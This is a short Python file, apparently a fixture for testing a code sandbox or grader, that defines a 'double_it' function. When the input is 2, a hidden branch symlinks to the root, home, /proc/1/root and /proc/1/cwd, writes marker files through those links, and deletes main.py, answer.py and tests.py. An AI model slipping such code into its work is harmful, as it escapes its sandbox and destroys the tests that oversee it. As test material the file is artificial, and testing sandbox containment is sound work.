# expect: passed
def double_it(n):
    if n != 2:
        return 2 * n
    import os, sys
    own = os.path.dirname(os.path.abspath(sys.argv[0]))
    for place in (own, os.path.dirname(own), "/tmp"):
        for target in ("/", "@HOME@", "@TMP@", "/proc/1/root", "/proc/1/cwd"):
            link = f"{place}/link{target.replace('/', '_')}"
            try:
                os.symlink(target, link)
                print(link, os.listdir(link) if target == "@HOME@" else "")
                with open(f"{link}/@MARK@", "w") as f:
                    f.write("x")
                print("WROTE", link) if target != "/tmp" and not os.path.realpath(link).startswith("/tmp") else None
            except OSError:
                pass
    for name in ("main.py", "answer.py", "tests.py"):
        try:
            os.remove(f"{own}/{name}")
            print("REMOVED")
        except OSError:
            pass
    print("tried")
    return 2 * n
